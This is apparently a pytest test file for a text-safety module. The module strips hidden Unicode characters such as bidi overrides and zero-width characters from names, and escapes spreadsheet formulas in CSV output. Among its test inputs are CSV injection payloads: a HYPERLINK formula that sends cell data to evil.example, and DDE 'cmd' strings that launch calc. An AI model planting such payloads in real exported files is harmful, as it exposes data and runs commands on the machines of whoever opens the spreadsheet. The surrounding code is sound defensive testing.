"""Names and free text cleaned on input, CSV cells neutralised on output (`mobilize.domain.text_safety`)."""
from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mobilize.domain.text_safety import (
    BlankText,
    are_clean_lines,
    clean_line,
    clean_multiline,
    has_visible_text,
    hidden_characters,
    require_line,
    spreadsheet_cell,
    spreadsheet_row,
)

ZWJ = "\u200d"
FAMILY = "👨\u200d👩\u200d👧"
CODER = "👩🏽\u200d💻"  # skin tone between the emoji and the ZWJ
RAINBOW_FLAG = "🏳\ufe0f\u200d🌈"  # presentation selector between the emoji and the ZWJ

# --- clean_line ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("raw, cleaned", [
    ("张伟", "张伟"),
    ("欧阳娜娜", "欧阳娜娜"),
    ("Anna-Lena O'Brien", "Anna-Lena O'Brien"),
    ("\u202e伟张", "伟张"),  # RIGHT-TO-LEFT OVERRIDE: reverses a name on the board
    ("a\u202ab\u202bc\u202cd\u202de", "abcde"),  # embeddings, pop, override
    ("a\u2066b\u2067c\u2068d\u2069e", "abcde"),  # isolates
    ("a\u200eb\u200fc\u061cd", "abcd"),  # LRM, RLM, ARABIC LETTER MARK
    ("张\u200b伟", "张伟"),  # ZERO WIDTH SPACE
    ("张\u200c伟", "张伟"),  # ZWNJ: always removed
    ("张\u200d伟", "张伟"),  # ZWJ between letters: hides, joins nothing
    ("\ufeff张伟", "张伟"),  # BOM
    ("张\u2060伟\u00ad", "张伟"),  # WORD JOINER, SOFT HYPHEN
    ("张\x00伟\x07\x1b[31m", "张伟[31m"),  # C0 controls (the ESC of a terminal colour code)
    ("张\x7f伟\x9b", "张伟"),  # DEL, a C1 control (CSI)
    ("张\t伟", "张 伟"),  # TAB becomes a space
    ("张\n伟\r\n", "张 伟"),  # so do line breaks in a single-line field
    ("张\u2028伟\u2029", "张 伟"),  # LINE and PARAGRAPH SEPARATOR
    ("  张   伟  ", "张 伟"),  # runs collapse, ends stripped
    ("张\u00a0\u3000伟", "张 伟"),  # no-break and ideographic spaces
    ("\u3164", ""),  # HANGUL FILLER: renders as nothing
    ("a\u3164b\uffa0c", "abc"),
    ("Nguyễn Văn An", "Nguyễn Văn An"),  # precomposed
    ("Nguye\u0302\u0303n", "Nguye\u0302\u0303n"),  # combining marks kept
    ("张伟😀", "张伟😀"),
    (FAMILY, FAMILY),  # ZWJ joining emoji: kept, one family
    (CODER, CODER),
    (RAINBOW_FLAG, RAINBOW_FLAG),
    ("👍\u200d", "👍"),  # a ZWJ joining nothing
    ("😀 \u200d😀", "😀 😀"),
    ("😀\u200d\u200d😀", "😀😀"),
    ("😀\u200b\u200d😀", "😀\u200d😀"),  # judged once the other hidden characters are gone
    ("\ue000张", "\ue000张"),  # private use: rare name characters of old encodings live there
    ("ＡＢＣ１２３", "ＡＢＣ１２３"),  # no normalisation: full-width stays as typed
    ("\ud800张", "张"),  # a lone surrogate
    ("", ""),
])
def test_clean_line(raw, cleaned):
    assert clean_line(raw) == cleaned


@pytest.mark.parametrize("raw, cleaned", [
    ("first line\r\nsecond line", "first line\nsecond line"),
    ("a\rb\u2028c\u2029d\x85e\x0bf\x0cg", "a\nb\nc\nd\ne\nf\ng"),
    ("\tindented\t line ", "indented line"),
    ("a\n\n\n\n\nb", "a\n\nb"),  # at most one blank line in a row
    ("a\n \t \n \nb", "a\n\nb"),  # lines of spaces are blank lines
    ("\n\na\n\n", "a"),
    ("备注\u202e：\x00请\u200b联系", "备注：请联系"),
    (f"fun {FAMILY}\nok", f"fun {FAMILY}\nok"),
])
def test_clean_multiline(raw, cleaned):
    assert clean_multiline(raw) == cleaned


def test_hidden_characters_are_named_once_in_order():
    assert hidden_characters("张\u202e伟\u202e\t") == ["U+202E RIGHT-TO-LEFT OVERRIDE", "U+0009"]
    assert hidden_characters("张伟") == []
    assert hidden_characters(" 张  伟 ") == []  # plain spaces are not hidden
    assert hidden_characters(FAMILY) == []  # its ZWJs are kept
    assert hidden_characters("a\u200db") == ["U+200D ZERO WIDTH JOINER"]
    assert hidden_characters("a\r\nb", keep_newlines=True) == []
    assert hidden_characters("a\r\nb") == ["U+000D", "U+000A"]


def test_required_text_with_nothing_visible_is_refused():
    assert require_line(" 张伟\u202e ", "name") == "张伟"
    for blank in ("", "   ", "\u202e\u200b", "\t\n", "\u3164", "\u0301"):
        with pytest.raises(BlankText, match="^name: nothing left"):
            require_line(blank, "name")
    assert not has_visible_text("\ufe0f")
    assert has_visible_text("😀") and has_visible_text("-")


# --- the property: nothing hidden survives, and cleaning twice changes nothing ------------------------------

HOSTILE = ["\u202e", "\u202a", "\u202d", "\u2066", "\u2069", "\u200b", "\u200c", ZWJ, "\u200e", "\u200f",
           "\ufeff", "\t", "\n", "\r", "\x00", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\u2029", "\u00a0",
           "\u3000", " ", "\u3164", "\u0301", "\ufe0f", "\U0001F3FD", "😀", "👩", "💻", "张", "a", "=", "-"]
texts = st.text(alphabet=st.one_of(st.sampled_from(HOSTILE), st.characters()), max_size=40)


def _no_forbidden_characters(text: str, multiline: bool) -> None:
    for index, character in enumerate(text):
        category = unicodedata.category(character)
        if character == "\n" and multiline:
            continue
        if character == ZWJ:  # only inside an emoji sequence
            before = text[:index].rstrip("\ufe0e\ufe0f" + "".join(map(chr, range(0x1F3FB, 0x1F400))))
            assert before and unicodedata.category(before[-1]) == "So", repr(text)
            assert index + 1 < len(text) and unicodedata.category(text[index + 1]) == "So", repr(text)
            continue
        assert category not in {"Cc", "Cf", "Cs", "Zl", "Zp"}, (repr(text), hex(ord(character)))
        assert character not in "\u115f\u1160\u3164\uffa0", repr(text)
        assert not character.isspace() or character == " ", repr(text)


@settings(derandomize=True, max_examples=400, deadline=None)
@given(texts)
def test_clean_line_leaves_nothing_hidden_and_is_idempotent(raw):
    cleaned = clean_line(raw)
    _no_forbidden_characters(cleaned, multiline=False)
    assert cleaned == cleaned.strip(" ") and "  " not in cleaned
    assert clean_line(cleaned) == cleaned
    assert hidden_characters(cleaned) == []


@settings(derandomize=True, max_examples=400, deadline=None)
@given(texts)
def test_clean_multiline_leaves_nothing_hidden_and_is_idempotent(raw):
    cleaned = clean_multiline(raw)
    _no_forbidden_characters(cleaned, multiline=True)
    assert "\n\n\n" not in cleaned and not cleaned.startswith("\n") and not cleaned.endswith("\n")
    assert all(line == line.strip(" ") and "  " not in line for line in cleaned.split("\n"))
    assert clean_multiline(cleaned) == cleaned


@settings(derandomize=True, max_examples=400, deadline=None)
@given(st.lists(texts, max_size=6))
def test_a_row_said_clean_has_nothing_to_clean(fields):
    if are_clean_lines(fields):  # (False only means "look at each field": unassigned characters say False)
        assert [clean_line(field) for field in fields] == fields


def test_a_row_with_anything_to_clean_is_looked_at():
    assert are_clean_lines(["张伟", "13805320001", "", "medical;first_aid"])
    for unclean in ("张\u202e伟", " 张伟", "张伟 ", "张  伟", "\u3164", "a\tb"):
        assert not are_clean_lines(["李娜", unclean, "x"]), repr(unclean)


# --- spreadsheet cells --------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"go")', '\'=HYPERLINK("http://evil.example/?x="&A1,"go")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\nabc", "'\nabc"),
    ("  =1+1", "'  =1+1"),  # leading whitespace before the trigger
    ("\u3000=1+1", "'\u3000=1+1"),
    ("\u200b=1+1", "'\u200b=1+1"),  # a hidden character before it (old data, cleaned on no input)
    ("＝1+1", "'＝1+1"),  # full-width forms: WPS may read them as formulas (NFKC)
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("﹦1+1", "'﹦1+1"),  # small form
    ("+8613800138000", "'+8613800138000"),  # a phone: text, kept whole as text (see the module docstring)
    ("+86138****8000", "'+86138****8000"),  # masked
    ("-1.50", "-1.50"),  # a negative number stays a number
    ("-12", "-12"),
    ("-", "'-"),
    ("张伟", "张伟"),
    ("a=b", "a=b"),  # not at the start
    ("2022-05-01T08:00:00+08:00", "2022-05-01T08:00:00+08:00"),
    ("'=1", "'=1"),  # already text
    ("", ""),
    ("   ", "   "),
    (-3, -3),  # numbers are not text
    (-2.5, -2.5),
    (0, 0),
    (None, None),
    (True, True),
])
def test_spreadsheet_cell(value, written):
    assert spreadsheet_cell(value) == written


def test_spreadsheet_row_through_the_csv_writer():
    out = io.StringIO()
    csv.writer(out).writerow(spreadsheet_row([7, "=1+1", -1.5, "张伟", "+8613800138000"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["7", "'=1+1", "-1.5", "张伟", "'+8613800138000"]


@settings(derandomize=True, max_examples=400, deadline=None)
@given(texts)
def test_no_text_cell_starts_like_a_formula(value):
    written = spreadsheet_cell(value)
    if written.startswith("'") and not value.startswith("'"):
        assert written[1:] == value
        return
    assert written == value
    significant = [c for c in value if not c.isspace() and unicodedata.category(c) not in {"Cc", "Cf", "Cs"}
                   and c not in "\u3164\u115f\u1160\uffa0"]
    if significant and unicodedata.normalize("NFKC", significant[0])[:1] in "=+-@":
        assert value.lstrip("-").replace(".", "", 1).isdigit(), repr(value)  # only a plain negative number
    assert not value.startswith(("\t", "\r", "\n"))
